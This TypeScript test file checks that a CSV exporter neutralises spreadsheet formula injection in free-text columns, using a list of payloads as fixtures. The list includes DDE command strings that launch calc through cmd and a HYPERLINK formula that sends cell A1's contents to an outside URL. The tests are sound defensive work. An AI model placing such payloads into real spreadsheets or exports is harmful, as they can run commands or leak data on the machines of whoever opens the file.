import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { readDossier } from '../../machines/dossier.ts'
import { columns } from '../../src/exchange/columns.ts'
import { developmentsCsv } from '../../src/exchange/csvOut.ts'
import { harmless, unmarked } from '../../src/ui/formula.ts'
import { sampleWith } from './randomDevelopments.ts'

const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const before = ['', ' ', '"', "'", '\u00a0 "', '\u200b', '\ufeff', "''"]
const payloads = [
  ...signs.flatMap((sign) => before.map((start) => `${start}${sign}1+1`)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org?x="&A1,"more")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+2+3+cmd|x',
  '-2+3+cmd|x',
  '=',
  '--1',
]
const prose = ['headline', 'quote', 'note', 'answer'] as const

/** What a spreadsheet takes for a formula: one of the signs, behind any space, quote or mark that it passes over. */
const runs = (cell: string) => /^[\s"\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell)

describe('a cell that could be a formula', () => {
  test(`is harmless in every column of free text (${payloads.length} of them)`, () => {
    expect(payloads.length).toBeGreaterThan(40)
    for (const payload of payloads) {
      const effect = { question: 'how-far', answer: `${payload}x` }
      const development = {
        id: 'one',
        at: '2025-01-02',
        headline: `${payload}x`,
        source: 'press',
        quote: payload,
        note: payload,
      }
      const parsed = readDossier(sampleWith([{ ...development, effects: [effect] }]))
      if (!parsed.ok) throw new Error(JSON.stringify(parsed.faults))
      const [, row = []] = Papa.parse<string[]>(developmentsCsv(parsed.dossier.developments), {
        delimiter: ',',
        newline: '\r\n',
      }).data
      for (const column of prose) {
        const cell = row[columns.indexOf(column)] ?? ''
        expect(cell, `${column}: ${JSON.stringify(payload)}`).toMatch(/^'/)
        expect(runs(cell)).toBe(false)
      }
    }
  })

  test('comes back unharmed', () => {
    for (const payload of payloads) expect(unmarked(harmless(payload))).toBe(payload)
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => unmarked(harmless(text)) === text))
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '"', ' ', '=', '-', '1', '.', '\t', '＝', 'x') }), (text) => {
        expect(unmarked(harmless(text))).toBe(text)
        expect(runs(harmless(text)) && !/^-?\d+(\.\d+)?$/.test(harmless(text))).toBe(false)
      }),
      { numRuns: 5_000 },
    )
  })
})

test.each(['-1', '-1.5', '0', '-0', '12', '1e5'])('the number %s stays one', (number) => {
  expect(harmless(number)).toBe(number)
})

test.each(["'Peace now', says North", "it's", 'North - South', 'a=b', 'plain', '’tis'])(
  '%s is left as it is',
  (text) => {
    expect(harmless(text)).toBe(text)
    expect(unmarked(text)).toBe(text)
  },
)
